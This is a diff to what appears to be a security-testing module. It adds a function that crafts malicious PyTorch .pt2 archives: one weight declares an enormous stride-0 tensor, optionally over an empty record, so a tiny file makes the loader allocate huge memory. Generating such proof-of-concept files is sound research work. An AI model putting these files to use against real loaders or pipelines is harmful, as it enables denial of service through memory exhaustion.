@@ -81,3 +81,25 @@ def duplicate_config_pt2(good: Path, evil: Path, marker: Path) -> Path:
     with warnings.catch_warnings():
         warnings.simplefilter("ignore")  # zipfile warns about the duplicate name: that is the attack
         return write_zip(evil, out)
+
+
+def huge_weight_pt2(good: Path, evil: Path, numel: int, empty: bool = False) -> Path:
+    """Issue #22: the first weight declares ``numel`` elements with stride 0 over
+    the few bytes stored (``empty``: over an empty record, which torch.export.load
+    fills with ``torch.zeros(sizes)``). A file of a few KB that claims terabytes."""
+    out, first = [], None
+    for info, data in members(good):
+        n = info.filename
+        if n.endswith("weights/model_weights_config.json"):
+            cfg = json.loads(data)
+            first = next(iter(cfg["config"]))
+            meta = cfg["config"][first]["tensor_meta"]
+            meta["sizes"] = [{"as_int": 1}, {"as_int": numel}]
+            meta["strides"] = [{"as_int": 0}, {"as_int": 0}]
+            data = json.dumps(cfg).encode()
+        out.append((n, data))
+    if empty:
+        cfg = json.loads(next(d for n, d in out if n.endswith("weights/model_weights_config.json")))
+        record = cfg["config"][first]["path_name"]
+        out = [(n, b"" if n.endswith("/weights/" + record) else d) for n, d in out]
+    return write_zip(evil, out)
